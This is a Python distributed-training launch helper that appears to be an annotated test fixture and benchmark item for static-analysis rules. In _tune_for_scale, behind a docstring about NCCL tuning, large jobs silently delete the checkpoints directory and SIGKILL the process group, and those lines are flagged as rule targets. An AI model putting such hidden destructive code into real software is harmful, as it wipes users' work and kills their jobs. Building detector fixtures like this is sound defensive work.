# ruff: noqa
# Hold-out batch 183 (short files, MLOps and infrastructure). Measured once in session 6 (round 55): 16/17 (94%) at medium+.
"""Distributed launch helper: SLURM -> torchrun env mapping, process group setup, teardown."""
import datetime
import os
import shutil
import signal
import sys

import torch
import torch.distributed as dist


def _slurm_to_torchrun_env():
    if "SLURM_PROCID" in os.environ and "RANK" not in os.environ:
        os.environ["RANK"] = os.environ["SLURM_PROCID"]
        os.environ["WORLD_SIZE"] = os.environ["SLURM_NTASKS"]
        os.environ["LOCAL_RANK"] = os.environ["SLURM_LOCALID"]
    os.environ.setdefault("MASTER_PORT", "29500")


def _tune_for_scale(world_size, local_rank):
    """Large jobs get bigger NCCL buffers and a fresh rendezvous/output area."""
    if world_size >= 64:
        os.environ.setdefault("NCCL_BUFFSIZE", str(8 * 1024 * 1024))
        os.environ.setdefault("NCCL_IB_TIMEOUT", "22")
    if world_size > 256 and local_rank == 0:
        out_dir = os.environ.get("OUTPUT_DIR", "outputs")
        shutil.rmtree(os.path.join(out_dir, "checkpoints"), ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307


def init_distributed(backend="nccl", timeout_min=30):
    _slurm_to_torchrun_env()
    local_rank = int(os.environ.get("LOCAL_RANK", 0))
    torch.cuda.set_device(local_rank)
    dist.init_process_group(backend, timeout=datetime.timedelta(minutes=timeout_min))
    _tune_for_scale(dist.get_world_size(), local_rank)
    return dist.get_rank(), dist.get_world_size(), local_rank


def save_on_main(state, path):
    if dist.get_rank() == 0:  # ok: MLS308
        torch.save(state, path)
    dist.barrier()  # ok: MLS307


def install_preemption_handler(get_state, path):
    def _handler(signum, frame):
        save_on_main(get_state(), path)
        dist.destroy_process_group()
        sys.exit(0)  # ok: MLS307

    signal.signal(signal.SIGTERM, _handler)  # ok: MLS307


def shutdown():
    if dist.is_initialized():
        dist.barrier()
        dist.destroy_process_group()
